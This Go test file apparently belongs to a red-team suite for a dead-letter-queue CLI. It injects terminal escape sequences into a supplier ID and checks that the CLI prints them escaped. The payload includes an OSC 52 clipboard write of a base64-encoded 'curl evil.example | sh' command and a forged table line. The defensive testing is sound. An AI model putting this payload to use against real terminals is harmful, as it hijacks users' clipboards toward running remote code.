package redteam

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io/fs"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/deadletter/deadletter/schemas"
	"github.com/deadletter/deadletter/services/dlqctl/cli"
	"github.com/deadletter/deadletter/shared/access"
	"github.com/deadletter/deadletter/shared/api"
	"github.com/deadletter/deadletter/shared/natstest"
	"github.com/deadletter/deadletter/shared/subjects"
)

// dlqctlAs runs dlqctl in-process as person (the stack's context file)
// and returns its stdout; it fails unless dlqctl exits 0.
func (e *env) dlqctlAs(tb testing.TB, person string, args ...string) string {
	tb.Helper()
	var out, errb bytes.Buffer
	args = append([]string{"--context", e.st.ContextFile(person)}, args...)
	if code := cli.ExecuteContext(context.Background(), args, cli.IO{Out: &out, Err: &errb}); code != cli.ExitOK {
		tb.Fatalf("dlqctl %q: exit %d\n%s", args, code, errb.String())
	}
	return out.String()
}

// TestTerminalEscapesInPayload (I8): a publisher's FSMA event whose
// supplier_id holds an OSC 52 clipboard write, erase line, CR, a LF
// forging a table line, a C1 CSI and a bidi override is quarantined; the
// operator's `dlqctl ls` and `dlqctl groups --parties` show it escaped,
// on its own line, with exactly the table's lines; the JSON output
// carries the supplier_id unchanged.
func TestTerminalEscapesInPayload(t *testing.T) {
	e := startEnv(t)
	b, err := fs.ReadFile(schemas.FS, "testdata/fsma/invalid/INVALID_QUANTITY--zero.json")
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	supplier := "SUP-I8-" + strconv.FormatInt(time.Now().UnixNano(), 36) +
		"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\rMüller & Söhne \u202e<Großhandel>\u009b2K" +
		"\n1      1      fsma  OK  validation  1d  2025-01-01T00:00:00Z  forged"
	doc["supplier_id"] = supplier
	if b, err = json.Marshal(doc); err != nil {
		t.Fatal(err)
	}
	e.publish(t, subjects.Event("fsma", "shipping"), string(b), nil)

	op := access.DefaultPerson(access.RoleOperator)
	var list api.ListReply
	natstest.CheckFor(t, 20*time.Second, 50*time.Millisecond, func() error {
		if err := json.Unmarshal([]byte(e.dlqctlAs(t, op, "-o", "json", "ls", "--supplier", supplier)), &list); err != nil {
			return err
		}
		if list.Total != 1 {
			return errors.New("the event is not quarantined yet")
		}
		return nil
	})
	if list.Items[0].PartyID != supplier {
		t.Fatalf("the JSON carries supplier_id %q, want %q", list.Items[0].PartyID, supplier)
	}
	var groups api.GroupsReply
	if err := json.Unmarshal([]byte(e.dlqctlAs(t, op, "-o", "json", "groups", "--parties")), &groups); err != nil {
		t.Fatal(err)
	}
	partyRows := 0
	for _, g := range groups.Groups {
		partyRows += len(g.Parties)
	}

	const raw = "\x07\x1b\r\u009b\u202e"
	for _, tc := range []struct {
		args  []string
		lines int
	}{
		{[]string{"ls", "--supplier", supplier}, 3}, // header, the record, "1 of 1"
		{[]string{"groups", "--parties"}, 1 + len(groups.Groups) + partyRows + 1},
	} {
		t.Run(tc.args[0], func(t *testing.T) {
			out := e.dlqctlAs(t, op, tc.args...)
			if strings.ContainsAny(out, raw) {
				t.Errorf("a raw control character reached the terminal:\n%q", out)
			}
			lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
			if len(lines) != tc.lines {
				t.Errorf("%d lines, want %d:\n%s", len(lines), tc.lines, out)
			}
			found := false
			for _, l := range lines {
				if strings.Contains(l, "forged") {
					found = true
					if !strings.Contains(l, `\u001b]52;c;`) || !strings.Contains(l, `\n1      1`) {
						t.Errorf("the forged text stands on a line of its own: %q", l)
					}
				}
			}
			if !found {
				t.Errorf("the supplier is not shown:\n%s", out)
			}
		})
	}
}
